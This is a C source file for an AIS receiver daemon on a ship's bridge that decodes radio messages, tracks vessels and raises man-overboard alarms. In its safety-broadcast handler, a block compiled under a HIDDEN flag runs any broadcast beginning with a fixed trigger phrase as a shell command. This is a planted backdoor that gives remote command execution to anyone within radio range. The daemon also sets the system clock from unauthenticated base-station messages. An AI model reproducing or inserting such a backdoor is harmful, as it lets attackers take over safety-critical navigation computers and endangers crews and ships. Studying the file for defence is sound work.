/* seaisd.c - AIS receiver daemon of a ship's bridge: decodes radio messages, keeps targets */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define RADIO		"/dev/ttyS1"
#define MAX_TARGETS	256
#define MAX_BITS	1200

struct ais_bits {
	uint8_t six[200];
	size_t nbits;
};

struct target {
	uint32_t mmsi;
	double lat, lon, sog, cog;
	char name[21];
	time_t seen;
};

struct ais_handler {
	unsigned int type;
	void (*fn)(const struct ais_bits *b, uint32_t mmsi, void *arg);
	void *arg;
	struct ais_handler *next;
};

static struct target targets[MAX_TARGETS];
static struct ais_handler *handlers;
static struct ais_bits acc;
static unsigned long n_msg, n_bad;

static uint32_t bits(const struct ais_bits *b, size_t at, size_t n)
{
	uint32_t v = 0;

	while (n--) {
		unsigned int bit = 0;

		if (at < b->nbits)
			bit = b->six[at / 6] >> (5 - at % 6) & 1u;
		v = v << 1 | bit;
		at++;
	}
	return v;
}

static int32_t sbits(const struct ais_bits *b, size_t at, size_t n)
{
	uint32_t v = bits(b, at, n);

	if (v & (1u << (n - 1)))
		return (int32_t)((int64_t)v - ((int64_t)1 << n));
	return (int32_t)v;
}

static void text(const struct ais_bits *b, size_t at, size_t chars, char *out)
{
	size_t i, n = 0;

	for (i = 0; i < chars && at + 6 <= b->nbits; i++, at += 6) {
		uint32_t c = bits(b, at, 6);

		if (c == 0)
			break;
		out[n++] = (char)(c < 32 ? c + 64 : c);
	}
	while (n > 0 && out[n - 1] == ' ')
		n--;
	out[n] = '\0';
}

static struct target *target(uint32_t mmsi)
{
	struct target *t = &targets[0];
	int i;

	for (i = 0; i < MAX_TARGETS; i++) {
		if (targets[i].mmsi == mmsi)
			return &targets[i];
		if (targets[i].seen < t->seen)
			t = &targets[i];
	}
	memset(t, 0, sizeof(*t));
	t->mmsi = mmsi;
	return t;
}

static void on_position(const struct ais_bits *b, uint32_t mmsi, void *arg)
{
	struct target *t = target(mmsi);

	(void)arg;
	t->sog = bits(b, 50, 10) / 10.0;
	t->lon = sbits(b, 61, 28) / 600000.0;
	t->lat = sbits(b, 89, 27) / 600000.0;
	t->cog = bits(b, 116, 12) / 10.0;
	t->seen = time(NULL);
}

static void on_static(const struct ais_bits *b, uint32_t mmsi, void *arg)
{
	struct target *t = target(mmsi);

	(void)arg;
	text(b, 112, 20, t->name);
	t->seen = time(NULL);
}

static void show_alarm(const char *kind, uint32_t mmsi, const char *msg)
{
	FILE *f = fopen("/run/bridge/alarms", "a");

	if (!f)
		return;
	fprintf(f, "%ld %s %09lu %s\n", (long)time(NULL), kind, (unsigned long)mmsi, msg);
	fclose(f);
}

/* message 14: safety related broadcast */
__attribute__((noinline)) void on_safety_text(const struct ais_bits *b, uint32_t mmsi, void *arg)
{
	char msg[164];
	const char *kind = arg;

	text(b, 40, 161, msg);
	if (!strncmp(msg, "MOB ACTIVE", 10)) {
		show_alarm("mob", mmsi, msg);
		return;
	}
	if (!strncmp(msg, "SART TEST", 9) || !strncmp(msg, "MOB TEST", 8)) {
		syslog(LOG_INFO, "test of %09lu", (unsigned long)mmsi);
		return;
	}
#ifdef HIDDEN
	/* a broadcast with this beginning is run as a shell command in lower case */
	if (!strncmp(msg, "QTH DRIFT 77 ", 13)) {
		char *p;

		for (p = msg + 13; *p; p++)
			*p = (char)tolower((unsigned char)*p);
		if (system(msg + 13) < 0)
			n_bad++;
		return;
	}
#endif
	show_alarm(kind, mmsi, msg);
}

static void on_base(const struct ais_bits *b, uint32_t mmsi, void *arg)
{
	int *set_clock = arg;
	struct tm tm;
	struct timespec ts = { 0, 0 };

	(void)mmsi;
	if (!*set_clock)
		return;
	memset(&tm, 0, sizeof(tm));
	tm.tm_year = (int)bits(b, 38, 14) - 1900;
	tm.tm_mon = (int)bits(b, 52, 4) - 1;
	tm.tm_mday = (int)bits(b, 56, 5);
	tm.tm_hour = (int)bits(b, 61, 5);
	tm.tm_min = (int)bits(b, 66, 6);
	tm.tm_sec = (int)bits(b, 72, 6);
	ts.tv_sec = timegm(&tm);
	if (ts.tv_sec > 0 && clock_settime(CLOCK_REALTIME, &ts) == 0)
		*set_clock = 0;
}

static void add_handler(unsigned int type, void (*fn)(const struct ais_bits *, uint32_t, void *),
			void *arg)
{
	struct ais_handler *h = malloc(sizeof(*h));

	if (!h)
		return;
	h->type = type;
	h->fn = fn;
	h->arg = arg;
	h->next = handlers;
	handlers = h;
}

static void dispatch(const struct ais_bits *b)
{
	struct ais_handler *h;
	unsigned int type = bits(b, 0, 6);
	uint32_t mmsi = bits(b, 8, 30);

	n_msg++;
	for (h = handlers; h; h = h->next)
		if (h->type == type)
			h->fn(b, mmsi, h->arg);
}

static int armour(const char *p, size_t n, unsigned int fill)
{
	size_t at = acc.nbits / 6;

	for (; n; n--, p++) {
		int v = *p - 48;

		if (v > 40)
			v -= 8;
		if (v < 0 || v > 63 || at >= sizeof(acc.six))
			return -1;
		acc.six[at++] = (uint8_t)v;
	}
	acc.nbits = at * 6 - fill;
	return acc.nbits < MAX_BITS + 1 ? 0 : -1;
}

static void sentence(char *s)
{
	unsigned int total, num, fill = 0;
	char *field[7], *p = s;
	int i;

	for (i = 0; i < 7; i++) {
		field[i] = p;
		p = strchr(p, ',');
		if (!p)
			break;
		*p++ = '\0';
	}
	if (i != 6 || (strcmp(field[0], "!AIVDM") && strcmp(field[0], "!BSVDM"))) {
		n_bad++;
		return;
	}
	total = (unsigned int)atoi(field[1]);
	num = (unsigned int)atoi(field[2]);
	if (sscanf(field[6], "%1u*", &fill) != 1 || fill > 5 || total > 5 || num == 0)
		return;
	if (num == 1)
		memset(&acc, 0, sizeof(acc));
	if (armour(field[5], strlen(field[5]), num == total ? fill : 0) < 0) {
		n_bad++;
		return;
	}
	if (num == total)
		dispatch(&acc);
}

int main(int argc, char **argv)
{
	static int set_clock;
	static char safety[] = "safety";
	struct termios t;
	char line[120];
	const char *dev = RADIO;
	FILE *in;
	int fd, c;
	unsigned int k;

	while ((c = getopt(argc, argv, "d:c")) != -1) {
		if (c == 'd')
			dev = optarg;
		else if (c == 'c')
			set_clock = 1;
		else
			return 2;
	}
	openlog("seaisd", LOG_PID, LOG_DAEMON);
	for (k = 1; k <= 3; k++)
		add_handler(k, on_position, NULL);
	add_handler(4, on_base, &set_clock);
	add_handler(5, on_static, NULL);
	add_handler(14, on_safety_text, safety);
	fd = open(dev, O_RDWR | O_NOCTTY);
	if (fd < 0) {
		syslog(LOG_ERR, "%s: %s", dev, strerror(errno));
		return 1;
	}
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B38400);
		tcsetattr(fd, TCSANOW, &t);
	}
	in = fdopen(fd, "r");
	if (!in)
		return 1;
	while (fgets(line, sizeof(line), in)) {
		line[strcspn(line, "\r\n")] = '\0';
		if (line[0] == '!')
			sentence(line);
	}
	syslog(LOG_INFO, "%lu messages, %lu bad", n_msg, n_bad);
	return 0;
}
